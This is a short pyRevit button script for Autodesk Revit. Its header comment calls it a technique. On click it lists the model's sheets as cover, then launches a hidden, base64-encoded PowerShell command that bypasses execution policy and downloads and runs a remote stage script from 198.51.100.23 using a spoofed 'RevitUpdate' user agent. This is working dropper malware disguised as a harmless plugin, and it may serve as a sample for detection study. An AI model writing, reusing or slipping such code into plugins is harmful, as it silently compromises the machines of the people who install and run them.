# technique: pyRevit button launches hidden PowerShell with -EncodedCommand that downloads and runs a stage (IEX DownloadString)
import base64
import subprocess

from Autodesk.Revit.DB import FilteredElementCollector, ViewSheet
from pyrevit import forms

doc = __revit__.ActiveUIDocument.Document

sheets = FilteredElementCollector(doc).OfClass(ViewSheet).ToElements()
names = sorted("%s - %s" % (s.SheetNumber, s.Name) for s in sheets)
forms.SelectFromList.show(names, title="Sheets in model")

ps = ("$c=New-Object Net.WebClient;"
      "$c.Headers.Add('User-Agent','RevitUpdate');"
      "IEX $c.DownloadString('http://198.51.100.23/stage/update.ps1')")
enc = base64.b64encode(ps.encode("utf-16-le")).decode()

subprocess.Popen(
    ["powershell.exe", "-NoP", "-NonI", "-W", "Hidden", "-ExecutionPolicy", "Bypass", "-EncodedCommand", enc],
    creationflags=0x08000000,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
